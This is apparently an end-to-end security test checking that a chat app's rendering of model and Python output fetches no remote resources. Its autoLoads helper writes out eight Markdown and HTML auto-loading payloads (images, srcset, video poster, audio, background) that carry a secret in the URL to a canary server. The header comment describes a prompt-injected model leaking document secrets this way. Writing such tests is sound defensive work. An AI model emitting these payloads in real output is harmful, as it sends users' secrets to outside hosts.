// What the page renders from the model loads nothing by itself. The answer and the model's own
// text are rendered as Markdown/HTML in the main thread, outside the REPL worker's sandbox.
// Python (which has read `context`), or a model steered by a prompt injection in the document,
// can put the secret in an image URL: if the page loaded it, the browser would send the secret
// to another origin with no JavaScript involved at all. A canary server stands for that origin.
//
// Run: npm run build && npx vitest run --project e2e tests/e2e/render-exfil.test.ts
import { randomBytes } from "node:crypto";
import { describe, expect, it } from "vitest";
import { repl } from "../fixtures/scripted-server.ts";
import { documentInput, startStack } from "./harness.ts";
import { useStack, useCanary } from "./stack.ts";
import { proveCanaryReachable, secretDocument } from "./sandbox/checks.ts";
import { QuestionScripts, ask, openApp } from "./sandbox/drive.ts";
import { expectNothingFor } from "./waits.ts";

const scripts = new QuestionScripts();

const stack = useStack(() => startStack({ root: scripts.root, sub: "sub-model reply", contextWindow: 131072 }));
const canary = useCanary();

/** Every way Markdown or sanitized HTML can make the browser fetch a URL without a click. */
function autoLoads(base: string, label: string, secret: string): string {
  return [
    `![chart](${base}/${label}-md.png?d=${secret})`,
    `<img src="${base}/${label}-img.png?d=${secret}" alt="x">`,
    `<img srcset="${base}/${label}-srcset.png?d=${secret} 1x" alt="y">`,
    `<video poster="${base}/${label}-poster.png?d=${secret}"></video>`,
    `<audio src="${base}/${label}-audio.mp3?d=${secret}" autoplay></audio>`,
    `<video><source src="${base}/${label}-source.mp4?d=${secret}"></video>`,
    `<table background="${base}/${label}-background.png?d=${secret}"><tr><td>t</td></tr></table>`,
    `<picture><source srcset="${base}/${label}-picture.png?d=${secret}"><img alt="z"></picture>`,
  ].join("\n");
}

describe("what the page renders from the model and from Python loads nothing by itself", () => {
  it("an answer and model text full of remote images, media and backgrounds: the canary hears nothing", async () => {
    const tag = "[render-exfil]";
    const secret = `SECRET-${randomBytes(8).toString("hex")}`;
    // Placeholders Python fills in: the secret is only known inside the REPL.
    const answerTemplate = autoLoads("CANARY", "answer", "SECRET");
    scripts.set(tag, [
      repl(
        [
          "import re",
          'secret = re.search(r"SECRET-[0-9a-f]+", context).group(0)',
          `FINAL("render-done\\n\\n" + ${JSON.stringify(answerTemplate)}.replace("CANARY", ${JSON.stringify(canary.url)}).replace("SECRET", secret))`,
        ].join("\n"),
        // The model's prose, shown in the steps view, carries the same loads.
        autoLoads(canary.url, "prose", "from-the-prose"),
      ),
    ]);
    const opened = await openApp(stack.browser, stack.app.url, stack.server, { contextWindow: "131072" }, { serviceWorkers: "block" });
    const { page, errors } = opened;
    try {
      await proveCanaryReachable(page, canary);
      await documentInput(page).setInputFiles({ name: "memo.txt", mimeType: "text/plain", buffer: Buffer.from(secretDocument(secret)) });
      await page.getByRole("button", { name: "Remove memo.txt" }).waitFor({ timeout: 60_000 });
      await ask(page, `${tag} Show me a chart.`, "render-done", 60_000);
      // Open the steps too, so the model's prose is on screen.
      const steps = page.getByRole("button", { name: /Show steps/ });
      if (await steps.count()) await steps.last().click();
      // Everything is on the page (each markdown view formatted, or shown plain for good), and
      // nothing it could start loading reaches the canary.
      await page.waitForFunction(
        () => {
          const views = Array.from(document.querySelectorAll<HTMLElement>(".markdown"));
          return views.length > 0 && views.every((v) => v.dataset.render === "done" || v.dataset.render === "fallback");
        },
        undefined,
        { timeout: 60_000, polling: 100 },
      );
      await expectNothingFor(2000, () => expect(canary.hits(), `the page loaded from the canary:\n${canary.describe()}`).toBe(0));
      expect(errors.filter((e) => e.startsWith("pageerror"))).toEqual([]);
    } finally {
      await opened.close();
    }
  }, 90_000);
});
